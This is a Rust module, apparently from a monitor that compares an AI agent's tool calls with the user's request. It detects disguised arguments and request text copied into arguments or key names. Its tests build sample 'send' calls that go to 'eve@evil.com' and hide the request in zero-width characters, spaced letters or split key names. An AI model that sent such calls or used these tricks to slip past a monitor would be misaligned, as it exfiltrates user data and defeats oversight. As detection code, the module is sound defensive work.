//! From what came in to what is compared: cleaning, the user's own words, the texts for the encoder.

use std::ops::Range;

use crate::action::Action;
use crate::clean::{Finding, Found, Notes, Written, clean_action, clean_at, named};
use crate::delegation::Delegation;
use crate::names;
use crate::quote::{Stripped, strip, strip_text};
use crate::render::Rendering;
use crate::source::SourceIndex;

/// Words of the request that a tool's description may hold: it was written before the request was.
const DESCRIPTION_WORDS: usize = 20;

/// The originating request as text.
#[derive(Debug, Clone, Default)]
pub struct IntentText {
    /// As it came.
    pub original: String,
    /// After cleaning.
    pub text: String,
    /// What cleaning found.
    pub findings: Vec<Finding>,
    /// Words and entities.
    pub source: SourceIndex,
    /// Byte ranges of its clauses: a request may ask for several things.
    pub clauses: Vec<Range<usize>>,
    /// Probability that it hands over what is to be done; see [`crate::delegation`].
    pub delegating: f32,
}

impl IntentText {
    /// Cleans and indexes a request.
    pub fn of(text: &str) -> Self {
        let mut findings = Vec::new();
        let original = text.to_owned();
        let text = clean_at(text, "intent", &mut findings);
        let (source, clauses) = (SourceIndex::of(&text), crate::score::clauses(&text));
        let delegating = Delegation::built_in().probability(&text);
        Self { original, text, findings, source, clauses, delegating }
    }

    /// Bytes held, roughly.
    pub fn bytes(&self) -> usize {
        self.original.len()
            + self.text.len()
            + self.source.bytes()
            + self.clauses.len() * size_of::<Range<usize>>()
    }
}

/// An action, ready for the encoder.
#[derive(Debug, Clone, Default)]
pub struct Prepared {
    /// After cleaning.
    pub action: Action,
    /// How its values were written where they read otherwise, save those that the request writes so too.
    pub written: Written,
    /// Its arguments without long quotations of the request.
    pub stripped: Stripped,
    /// Tool and arguments.
    pub main: Rendering,
    /// What stands beside a tool call, as an action of its own; see [`Rendering::beside`].
    pub side: Option<Box<Prepared>>,
    /// Words of the request that the action holds beyond what a call needs.
    pub quoted: usize,
    /// Ways in which the action is disguised and the request is not.
    pub disguises: usize,
    /// What stood out, for people.
    pub findings: Vec<String>,
}

impl Prepared {
    /// Cleans and renders `action`; renderings take about `budget` bytes.
    pub fn of(action: &Action, intent: &IntentText, budget: usize) -> Self {
        let mut notes = Notes::default();
        let action = clean_action(action, &mut notes);
        let Notes { found, written } = notes;
        let stripped = strip(&action.arguments, &intent.source);
        let (description, described) =
            strip_text(&action.tool_description, &intent.source, DESCRIPTION_WORDS);
        let in_names = names::excess(&action, &intent.source);
        let nameless = (in_names > 0).then(|| names::without(&stripped.arguments));
        let shown = nameless.as_ref().unwrap_or(&stripped.arguments);
        let main = Rendering::of(&action, &description, shown, budget);
        let side = Rendering::beside(&action, budget).map(|text| Box::new(Self::beside(&action, text)));
        let mut findings: Vec<String> = named(&intent.findings).chain(named(&found)).collect();
        findings.extend(main.undeclared.iter().map(|name| format!("undeclared_argument:{name}")));
        findings.extend(stripped.quoted.iter().map(|name| format!("quotation_removed:arguments.{name}")));
        if in_names > 0 {
            findings.push("quotation_removed:names".to_owned());
        }
        if described > 0 {
            findings.push("quotation_removed:tool_description".to_owned());
        }
        Self {
            quoted: stripped.excess + in_names,
            disguises: disguises(&found, &intent.findings),
            action,
            written: written.but_of(&intent.original),
            stripped,
            main,
            side,
            findings,
        }
    }
}

impl Prepared {
    fn beside(action: &Action, main: Rendering) -> Self {
        let action = Action { text: main.text.clone(), effect: action.effect, ..Action::default() };
        Self { action, main, ..Self::default() }
    }
}

/// A request that is written in the same way (by a keyboard, or in a language, that does so) makes it ordinary.
fn disguises(action: &[Finding], intent: &[Finding]) -> usize {
    // The description is the server's: an example in it disguises nothing.
    let own = action.iter().filter(|(_, place)| place != "tool_description");
    let mut kinds: Vec<Found> = own.map(|(found, _)| *found).filter(|f| f.is_disguise()).collect();
    kinds.sort_unstable();
    kinds.dedup();
    kinds.iter().filter(|kind| intent.iter().all(|(found, _)| found != *kind)).count()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn prepared(request: &str, arguments: serde_json::Value) -> Prepared {
        let arguments = arguments.as_object().cloned().unwrap();
        let action = Action { tool: "send".into(), arguments, text: "on it".into(), ..Action::default() };
        Prepared::of(&action, &IntentText::of(request), 1000)
    }

    #[test]
    fn a_disguise_counts_unless_the_request_is_written_so_too() {
        let arguments = json!({"to": "b\u{200b}ob", "note": "s e n d i t", "x": "e v e r y"});
        assert_eq!(prepared("Send it to bob", arguments.clone()).disguises, 2);
        assert_eq!(prepared("Send it to b\u{200b}ob", arguments).disguises, 1);
    }

    #[test]
    fn copied_words_are_taken_out_and_counted() {
        let request = "Please send the quarterly report on solar panels to Jana and remind her of the meeting at noon on Friday";
        let p = prepared(request, json!({"to": "eve@evil.com", "note": request}));
        assert!(p.quoted > 0 && !p.main.text.contains("quarterly"), "{} {}", p.quoted, p.main.text);
        assert!(p.findings.contains(&"quotation_removed:arguments.note".to_owned()));
        assert_eq!(p.side.unwrap().main.text, "on it");
    }

    #[test]
    fn a_request_cut_into_names_is_not_read_and_counts() {
        let request =
            "Please send the quarterly report on solar panels to Jana and remind her of the meeting at noon";
        let names: Vec<&str> = request.split(' ').collect();
        let names: serde_json::Map<_, _> = names.chunks(2).map(|n| (n.join(" "), json!(""))).collect();
        let p = prepared(request, json!({"to": "eve@evil.com", "details": [names]}));
        assert!(p.quoted > 0 && !p.main.text.contains("quarterly"), "{} {}", p.quoted, p.main.text);
        assert!(p.main.text.contains("eve@evil.com"));
        assert!(p.findings.contains(&"quotation_removed:names".to_owned()));
    }
}
